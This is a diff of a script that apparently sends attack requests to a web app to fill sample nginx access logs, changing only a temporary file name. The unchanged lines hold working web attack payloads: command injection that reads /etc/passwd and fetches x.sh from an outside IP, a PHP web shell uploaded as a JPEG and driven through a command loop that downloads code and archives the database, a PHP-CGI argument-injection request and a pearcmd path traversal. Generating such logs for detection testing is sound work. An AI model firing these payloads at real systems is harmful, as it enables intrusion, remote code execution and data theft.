@@ -51,7 +51,7 @@ cut_begin web-command-injection
 hit '/kiem-tra-mang.php?may=127.0.0.1;id'
 hit '/kiem-tra-mang.php?may=127.0.0.1%7Cwhoami'
 hit '/kiem-tra-mang.php?may=%24(cat%20/etc/passwd)'
-hit '/kiem-tra-mang.php?may=127.0.0.1%0Awget%20http://198.51.100.66/x.sh%20-O%20/tmp/x.sh'
+hit '/kiem-tra-mang.php?may=127.0.0.1%0Awget%20http://198.51.100.66/x.sh%20-O%20/tmp/k.sh'
 hit '/kiem-tra-mang.php?may=%60uname%20-a%60'
 cut_end web-command-injection nginx/access.log
 
@@ -59,7 +59,7 @@ cut_begin web-shell
 echo '<?php system($_REQUEST["cmd"] ?? "id");' > /tmp/anh-bia.php
 hit /gui-van-ban.php -F 'tep=@/tmp/anh-bia.php;type=image/jpeg'
 for command in id whoami 'uname%20-a' 'cat%20/etc/passwd' 'ls%20-la%20/srv' 'ps%20aux' 'netstat%20-an' \
-    'curl%20-s%20http://198.51.100.66/x.sh%20-o%20/tmp/x.sh' 'chmod%20%2Bx%20/tmp/x.sh' \
+    'curl%20-s%20http://198.51.100.66/x.sh%20-o%20/tmp/k.sh' 'chmod%20%2Bx%20/tmp/k.sh' \
     'crontab%20-l' 'tar%20czf%20/srv/portal/uploads/du-lieu.zip%20/srv/portal/portal.db'; do
     hit "/uploads/anh-bia.php?cmd=$command"
 done
@@ -159,7 +159,7 @@ hit '/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=up
 hit '/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input' -d '<?php echo 1;'
 hit '/index.php?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input' -d '<?php echo 1;'
 hit '/api/jsonws/?a=1'
-hit '/index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?=phpinfo()?>+/tmp/x.php'
+hit '/index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?=phpinfo()?>+/tmp/k.php'
 cut_end web-exploits-php nginx/access.log
 
 cut_begin web-exploits-dotnet
